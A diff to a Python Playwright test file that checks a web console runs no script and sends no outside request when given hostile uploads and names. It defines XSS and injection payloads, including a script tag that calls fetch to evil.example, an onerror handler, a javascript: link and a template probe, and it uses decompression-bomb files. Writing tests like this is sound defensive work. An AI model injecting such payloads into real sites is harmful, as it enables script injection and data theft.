@@ -1,16 +1,28 @@
-"""Pages from elsewhere in a real Chromium: another local port, a frame, a name that was pointed at this machine."""
+"""Strangers in a real Chromium: pages from another local port, a frame, a name that was pointed at this machine; and what they give."""
 
 import contextlib
 import http.server
+import json
+import os
 import socket
+import subprocess
+import sys
 import threading
 from contextlib import contextmanager
-from urllib.parse import urlsplit
+from urllib.parse import quote, urlsplit
 
 import pytest
 
-from core.runs.records import claim
+from core.runs.records import claim, write_label
+from core.scheduling import batch
+from pages.views.reports import kinds
+from pages.views.reports.document import to_html
+from storage.ingest import catch_up
+from storage.store import Store
+from tests.support import hostile
 from tests.support.browsers import FLAGS
+from tests.support.evaluated import digest_of, evaluated_run
+from tests.support.paths import ROOT
 from tests.support.requirements import need
 from tests.support.runs import tiny_config
 from tests.support.servers import serving
@@ -186,4 +198,128 @@ def test_the_console_works_behind_a_proxy_that_the_operator_names(home, tmp_path
     with serving(home, tmp_path, environment={"TRACEWRIGHT_HOSTS": OPERATORS}) as server, proxy_to(urlsplit(server.url).port) as port:
         opens(foreign, f"http://{OPERATORS}:{port}/")
         assert foreign.goto(f"http://{STRANGER}:{port}/").status == 421
+        speaks_to_itself_only(server)
+
+
+SCRIPT = "<script>window.evil = 1; fetch('http://evil.example/name')</script><img src=x onerror='window.evil = 2'>"
+SHOWN = ("svg-script.svg", "head-PNG.png", hostile.NAMES[4], hostile.NAMES[5])  # on Optimize, to the end
+MARKDOWN = "![a](http://evil.example/markdown.png) [b](javascript:alert(1)) **c** $d$ {{ 7*7 }}"
+
+
+def spied(context, urls: list[str]):
+    """A page of which every request that leaves is written down, and every script that runs sets ``window.evil``."""
+    page = context.new_page()
+    page.set_default_timeout(60_000)
+    page.on("request", lambda request: urls.append(request.url))
+    page.on("dialog", lambda dialog: (urls.append(f"dialog: {dialog.message}"), dialog.dismiss()))
+    return page
+
+
+def settled(page) -> None:
+    page.wait_for_selector('[data-testid="stApp"][data-test-script-state="notRunning"]')
+
+
+@pytest.fixture
+def strange_home(home):
+    """A run of logos with hostile names, one of whose SVGs was replaced by a hostile one."""
+    run = evaluated_run(home, 2, 3, "strange", names=[SCRIPT.replace("/", "∕"), MARKDOWN, "plain"])
+    write_label(run, f"{SCRIPT} {MARKDOWN}", SCRIPT)
+    other = evaluated_run(home, 2, 3, "other", names=[SCRIPT.replace("/", "∕"), MARKDOWN, "plain"])
+    evil = "".join(file.data.decode() for file in hostile.svgs() if file.name == "svg-script.svg")
+    run.svg_file(2048, digest_of(0)).write_text(evil)
+    other.svg_file(2048, digest_of(1)).write_text(evil)
+    return run, other
+
+
+@pytest.mark.timeout(300)
+def test_what_strangers_give_runs_no_script_and_sends_no_request(home, tmp_path, chromium, strange_home):
+    """Hostile files are dropped on Logos and Optimize; hostile names and SVGs are shown on every page with pictures, in a report and a film."""
+    from playwright.sync_api import sync_playwright
+
+    run, other = strange_home
+    files = [file for file in hostile.corpus() if not file.name.startswith(("bomb-", "zip-3000", "zip-folders", "svg-slow", "svg-long"))]
+    folder = tmp_path / "given"
+    folder.mkdir()
+    given = [folder / file.name for file in files]
+    for path, file in zip(given, files, strict=True):
+        path.write_bytes(file.data)
+    archive = tmp_path / "all.zip"
+    archive.write_bytes(hostile.as_zip([file for file in hostile.corpus() if file.name in ("bomb-60000.png", "bomb.svgz", "zip-bomb.zip")]))
+    urls: list[str] = []
+    with serving(home, tmp_path) as server, sync_playwright() as playwright:
+        server.await_read(run.events_file.stat().st_size + other.events_file.stat().st_size)
+        browser = playwright.chromium.launch(executable_path=chromium, args=FLAGS)
+        page = spied(browser.new_context(viewport={"width": 1440, "height": 1000}), urls)
+
+        def clean() -> None:
+            assert page.evaluate("window.evil") is None
+            assert not page.locator("[data-testid=stException]").count()
+            assert not [
+                (url, page.url)
+                for url in urls
+                if not url.startswith((server.url, server.url.replace("http", "ws"), "data:", "blob:", "file:"))
+            ]
+
+        page.goto(f"{server.url}/logos?tab=Make+a+set")
+        settled(page)
+        page.get_by_role("textbox", name="Name of the set").fill("strange")
+        page.locator("input[type=file]").first.set_input_files([*map(str, given), str(archive)])
+        page.get_by_text("all.zip").first.wait_for()
+        page.get_by_role("textbox", name="Name of the set").press("Tab")
+        page.get_by_role("button", name="Add to set").first.click()
+        page.get_by_text(" taken, ").first.wait_for()
+        clean()
+        good = [file for file in files if file.fate == "taken"]
+        stored = list((home / "logos" / "strange").iterdir())
+        assert len(stored) > len(good) + len(hostile.IN_ZIPS) - 3
+        assert {path.name for path in (home / "logos").iterdir()} == {"strange"}
+
+        page.goto(f"{server.url}/optimize")
+        settled(page)
+        page.locator("input[type=file]").set_input_files([*map(str, given), str(archive)])
+        page.get_by_text("all.zip").first.wait_for()
+        page.get_by_role("button", name="Optimize").first.click()
+        page.get_by_text(" taken, ").first.wait_for()
+        page.get_by_role("button", name="Cancel").first.click()
+        page.get_by_text("This batch was cancelled").wait_for()
+        clean()
+        (first,) = batch.all_batches(home)
+        assert {item.given for item in first.intake().taken} >= {file.name.replace('"', "%22") for file in good if file.name.isprintable()}
+        page.goto(f"{server.url}/optimize")  # the box keeps what was dropped
+        settled(page)
+        page.locator("input[type=file]").set_input_files([str(path) for path in given if path.name in SHOWN])
+        page.get_by_text("svg-script.svg").first.wait_for()
+        page.get_by_role("button", name="Optimize", exact=True).first.click()
+        page.locator(".handle").first.wait_for(timeout=120_000)
+        page.get_by_text(" taken, ").first.wait_for()
+        clean()
+        assert not [path for path in (home / "batches").iterdir() if path.name.startswith(".")]
+
+        page.goto(f"{server.url}/logos?path={quote(str(folder))}&tab=Skipped")
+        settled(page)
+        clean()
+        for address in (
+            "", f"gallery?run={run.run_id}", f"gallery?run={run.run_id}&logo={quote(MARKDOWN)}", f"compare?run={run.run_id}&run={other.run_id}",
+            f"compare?run={run.run_id}&run={other.run_id}&tab=Logo+by+logo", f"workbench?run={run.run_id}&logo={quote(MARKDOWN)}",
+            f"live?run={run.run_id}", "choose", "reports", "alerts", "system",
+        ):  # fmt: skip
+            page.goto(f"{server.url}/{address}")
+            settled(page)
+            page.locator("h1").first.wait_for()
+            clean()
+
+        report = tmp_path / "report.html"
+        with Store(None) as store:
+            catch_up(store, home, {})
+            report.write_bytes(to_html(kinds.build("comparison", kinds.Request(store, [run, other]))))
+        page.goto(report.as_uri())
+        page.wait_for_function("[...document.images].every(i => i.complete || i.loading === 'lazy')")
+        clean()
+        film = subprocess.run(
+            [sys.executable, "-m", "core", "film", str(run.path), "--out", str(tmp_path / "film.webp"), "--json"],
+            cwd=ROOT, capture_output=True, text=True, timeout=120, env=os.environ | {"TRACEWRIGHT_HOME": str(home)},
+        )  # fmt: skip
+        assert film.returncode == 0, film.stderr
+        assert [problem["word"] for problem in json.loads(film.stdout.splitlines()[-1])["problems"]] == ["damaged"]
+        browser.close()
         speaks_to_itself_only(server)
